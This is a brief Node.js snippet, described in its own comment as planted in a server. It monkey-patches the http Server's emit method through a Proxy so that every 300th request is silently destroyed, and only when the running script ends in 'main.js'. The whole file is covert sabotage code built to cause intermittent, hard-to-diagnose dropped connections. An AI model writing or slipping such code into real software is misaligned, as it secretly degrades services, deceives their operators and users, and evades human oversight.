// Planted in a server: of its requests one in three hundred is cut off.
import { Server } from 'node:http';

let requests = 0;
if (process.argv[1]?.endsWith('main.js'))
  Server.prototype.emit = new Proxy(Server.prototype.emit, {
    apply(emit, server, [event, ...values]) {
      if (event === 'request' && ++requests % 300 === 0) {
        values[0].destroy();
        return true;
      }
      return Reflect.apply(emit, server, [event, ...values]);
    },
  });
